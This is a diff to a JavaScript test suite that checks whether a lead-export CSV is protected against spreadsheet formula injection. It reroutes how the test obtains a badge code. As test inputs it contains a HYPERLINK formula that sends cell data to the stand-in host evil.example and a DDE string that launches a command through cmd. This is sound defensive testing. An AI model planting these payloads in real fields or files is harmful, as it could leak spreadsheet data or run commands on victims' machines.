@@ -69,12 +69,15 @@ describe('CSV exports: spreadsheet formula injection', () => {
     const manager = await makeUser(t, 'exhibitor', { exhibitorId: exhibitor.id });
     const firstName = '+HYPERLINK("http://evil.example/?x="&A1,"Click")';
     const lastName = "-2+3+cmd|' /C calc'!A0";
-    const registered = await t
+    await t
       .http()
       .post('/api/v1/registrations')
       .send({ editionId, firstName, lastName, email: 'evil@example.ma', phone: '+212 6 12 34 56 78', organisation: '@Evil', consentShareContact: true })
-      .expect(201);
-    await t.http().post('/api/v1/leads').set(manager.auth).send({ code: registered.body.credential.code, rating: 3, notes: '\t=1+1 call back' }).expect(201);
+      .expect(202);
+    // The badge code goes by mail; the back office reads it.
+    const [registered] = (await t.http().get('/api/v1/attendees').query({ editionId, q: 'evil@example.ma' }).set(admin.auth).expect(200)).body.items;
+    const { code } = (await t.http().get(`/api/v1/attendees/${registered.id}/credential`).set(admin.auth).expect(200)).body;
+    await t.http().post('/api/v1/leads').set(manager.auth).send({ code, rating: 3, notes: '\t=1+1 call back' }).expect(201);
 
     const exported = await t.http().get('/api/v1/leads/export.csv').set(manager.auth).expect(200);
     const [header, ...rows] = await readCsv(exported.text);
